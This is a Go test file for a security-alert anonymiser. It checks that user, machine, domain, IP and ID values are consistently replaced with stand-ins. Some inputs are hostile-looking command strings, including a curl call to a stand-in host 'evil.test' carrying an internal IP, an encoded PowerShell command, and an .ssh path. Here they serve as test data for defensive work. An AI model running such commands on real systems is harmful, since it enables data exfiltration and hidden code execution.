package anonymous

import (
	"fmt"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"cordon/handler/alert"
	"cordon/handler/decided"
	"cordon/handler/machine"
	"cordon/handler/outgoing"
	"cordon/handler/outgoing/outgoingtest"
	"cordon/handler/playbook"
	"cordon/handler/playbook/playbooktest"
)

// TestANameIsNowhereAfterwards has a name in every field that there is, so that one that is added is found.
func TestANameIsNowhereAfterwards(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		"zaphod", "ZAPHOD", "seen zaphod: today", `C:\Users\zaphod\x.exe`, "zaphod@heart.example",
	} {
		var d decided.Decision
		outgoingtest.SetTexts(&d, text)
		d.Facts.Alert.RelatedUser.Name = "Zaphod"
		d.Facts.Machine.ComputerDNSName = "heart.example"
		d.Facts.Paused = true
		is, err := Of(d, nil)
		if err != nil {
			t.Fatal(err)
		}
		left := map[string]int{}
		each(reflect.ValueOf(&is.Facts), "", func(name, text string) string {
			if strings.Contains(strings.ToLower(text), "zaphod") || strings.Contains(text, "heart.") {
				left[name]++
			}
			return text
		})
		for _, step := range is.Steps {
			if body, _ := outgoing.Encode(step.To); strings.Contains(strings.ToLower(string(body)), "zaphod") {
				left["To"]++
			}
		}
		if len(left) > 0 || strings.Contains(is.Run+is.AlertID, "zaphod") {
			t.Errorf("%s is left in %v, %s", text, left, is.Run)
		}
	}
}

func TestNamesInTextsGetTheSameStandInsEverywhere(t *testing.T) {
	t.Parallel()
	in := playbooktest.Input()
	in.Alert.ComputerDNSName = "PC-77.corp.contoso.com"
	in.Machine.ComputerDNSName = "pc-77.corp.contoso.com"
	in.Machine.LastIP = "10.20.3.4"
	in.Alert.RelatedUser = alert.User{Name: "alice", Domain: "CONTOSO"}
	in.Alert.Evidence = []alert.Evidence{{UPN: "alice@contoso.com", UserSID: "S-1-5-21-7-8-9-1001", AccountName: "bob"}}
	in.OpenActions = []machine.Action{{ID: "a", Requestor: "Night watch", Comment: "ask bob"}}
	for text, want := range map[string]string{
		`C:\Users\alice\AppData\x.exe -u CONTOSO\alice`: `C:\Users\user-1\AppData\x.exe -u domain-2.example\user-1`,
		`malice and alice, alices, ALICE`:               `malice and user-1, alices, user-1`,
		`alice@contoso.com`:                             `user-1@domain-3.example`,
		`mail carol@fabrikam.co.uk and alice`:           `mail user-3@domain-4.example and user-1`,
		`ping pc-77 PC-77.corp.contoso.com`:             `ping machine-1 machine-1.domain-1.example`,
		`ping xpc-77 pc-778`:                            `ping xpc-77 pc-778`,
		`curl http://evil.test/a?h=10.20.3.4`:           `curl http://domain-4.example/a?h=10.0.0.2`,
		`from 10.20.3.4:445 to 8.8.8.8, 110.20.3.45`:    `from 10.0.0.2:445 to 198.18.0.3, 198.18.0.4`,
		`version 10.0.22631.1, 127.0.0.1`:               `version 10.0.22631.1, 127.0.0.1`,
		`fe80::1, fd12::5 and 2a01:db8::7`:              `fe80::1, fd00::2 and 2001:db8::3`,
		`\\files01\hr$\x and files01`:                   `\\machine-2\hr$\x and machine-2`,
		`S-1-5-21-7-8-9-1001 S-1-5-18`:                  `S-1-5-21-1-1-1-1 S-1-5-18`,
		`{0E41C2F6-19A9-4B1F-8D27-4F9C6B1E2A3D}`:        `{00000000-0000-0000-0000-000000000001}`,
		`NT AUTHORITY\SYSTEM, administrator`:            `NT AUTHORITY\SYSTEM, administrator`,
		`powershell.exe -enc SQBFAFgA`:                  `powershell.exe -enc SQBFAFgA`,
		`/home/dave/.ssh and dave`:                      `/home/user-3/.ssh and user-3`,
		playbooktest.MachineID:                          fmt.Sprintf("%040x", 1),
		"by Night watch":                                "by app-1",
		"\u202ealice\x00":                               "\u202euser-1\x00",
	} {
		own := in
		own.Alert.Title = text
		d := decided.Of(own,
			playbook.Plan{Steps: []playbook.Step{{Kind: playbook.Mail, To: []string{"soc@contoso.com"}}}})
		is, err := Of(d, nil)
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(want, is.Facts.Alert.Title); diff != "" {
			t.Errorf("%s: %s", text, diff)
		}
		f := is.Facts
		if f.Machine.ComputerDNSName != "machine-1.domain-1.example" || f.Alert.ComputerDNSName != f.Machine.ComputerDNSName ||
			f.Machine.ID != f.Alert.MachineID || f.Alert.IncidentID != 1 || f.OpenActions[0].Comment != "" {
			t.Errorf("%s: %s, %s, %+v", text, f.Machine.ComputerDNSName, f.Alert.ComputerDNSName, f.OpenActions)
		}
		if d.Facts.Alert.ComputerDNSName != "PC-77.corp.contoso.com" {
			t.Errorf("the decision itself was changed")
		}
	}
}

func TestAMachineThatFitsAPatternKeepsFitting(t *testing.T) {
	t.Parallel()
	for name, want := range map[string]string{
		"DC01.contoso.com":    "DCmachine-1.domain-1.example",
		"dc7":                 "DCmachine-1",
		"KIOSK-A-LAB7":        "KIOSK-machine-1",
		"web3-hv1":            "machine-1-HVmachine-1",
		"pc1":                 "machine-1",
		"any.sql.contoso.com": "machine-1.domain-1.example",
	} {
		in := playbooktest.Input()
		in.Machine.ComputerDNSName, in.Alert.ComputerDNSName = name, ""
		is, err := Of(decided.Of(in, playbook.Plan{}),
			[]string{"*", "DC*", "KIOSK-*", "*-HV*", "WindowsServer*", "*.sql.*"})
		if err != nil || is.Facts.Machine.ComputerDNSName != want {
			t.Errorf("%s is %s, want %s, %v", name, is.Facts.Machine.ComputerDNSName, want, err)
		}
	}
}

// TestTwoNamesAreStillTwo draws names: equal ones have equal stand-ins, others have others.
func TestTwoNamesAreStillTwo(t *testing.T) {
	t.Parallel()
	name := rapid.OneOf(rapid.StringMatching(`[a-z]{3,6}[0-9]?(\.[a-z]{2,4}){0,2}`),
		rapid.StringMatching(`[A-Za-zäß]{3,5}`),
		rapid.StringMatching(`(10|172|192|8)\.(16|168|3)\.[1-9]\.[1-9]`), rapid.String())
	rapid.Check(t, func(t *rapid.T) {
		in := playbooktest.Input()
		in.Alert.Evidence = nil
		given := rapid.SliceOfN(name, 1, 8).Draw(t, "names")
		for _, one := range given {
			in.Alert.Evidence = append(in.Alert.Evidence, alert.Evidence{AccountName: strings.ToValidUTF8(one, "x")})
		}
		is, err := Of(decided.Of(in, playbook.Plan{}), nil)
		if err != nil {
			t.Fatal(err)
		}
		again, err := Of(decided.Of(in, playbook.Plan{}), nil)
		if diff := cmp.Diff(is, again); diff != "" || err != nil {
			t.Fatalf("another time it is another: %s", diff)
		}
		stands := map[string]string{}
		for i, e := range in.Alert.Evidence {
			key := fold(strings.TrimSpace(e.AccountName))
			if key == "" {
				continue // a blank is no name
			}
			now := is.Facts.Alert.Evidence[i].AccountName
			if was, met := stands[key]; met && fold(was) != fold(now) {
				t.Fatalf("%q is %q and %q", e.AccountName, was, now)
			}
			stands[key] = now
		}
		var all []string
		for _, one := range stands {
			all = append(all, fold(one))
		}
		slices.Sort(all)
		if len(slices.Compact(all)) != len(stands) {
			t.Fatalf("two names are one: %q", stands)
		}
	})
}

// TestManyNamesAreFound has as many names as the facts of a run can hold, of every length.
func TestManyNamesAreFound(t *testing.T) {
	t.Parallel()
	in := playbooktest.Input()
	in.Alert.Evidence = nil
	for i := range 1500 {
		name := fmt.Sprintf("u%d%s", i, strings.Repeat("x", i%50))
		line := fmt.Sprintf(`C:\Users\%s\a.exe %s@h%d.contoso.com`, name, name, i)
		in.Alert.Evidence = append(in.Alert.Evidence, alert.Evidence{CommandLine: line})
	}
	d := decided.Decision{Facts: decided.FactsOf(in)}
	is, err := Of(d, nil)
	if err != nil {
		t.Fatal(err)
	}
	for i, e := range is.Facts.Alert.Evidence {
		name := fmt.Sprintf("user-%d", i+2) // the first asked for an action
		want := fmt.Sprintf(`C:\Users\%s\a.exe %s@domain-`, name, name)
		if !strings.HasPrefix(e.CommandLine, want) {
			t.Fatalf("%s, want %s", e.CommandLine, want)
		}
	}
}

func TestIdsOfAlertsKeepTheirForm(t *testing.T) {
	t.Parallel()
	for id, want := range map[string]string{
		"da638994417204415533_-1184209733":                           "da1_1",
		"da638994417204415533_-1184209733:" + playbooktest.MachineID: "da1_1:" + fmt.Sprintf("%040x", 1),
		"hunt:remote-access-tools:0f3bde4a1c":                        "hunt:remote-access-tools:1",
		"hunt:":                                                      "hunt::1",
	} {
		in := playbooktest.Input()
		in.Alert.ID = id
		d := decided.Of(in, playbook.Plan{})
		d.AlertID, d.Version, d.Run = id, 2, id+":v2"
		is, err := Of(d, nil)
		if err != nil || is.AlertID != want || is.Facts.Alert.ID != want || is.Run != alert.RunID(want, 2) {
			t.Errorf("%s is %s, %s, want %s, %v", id, is.AlertID, is.Run, want, err)
		}
	}
}
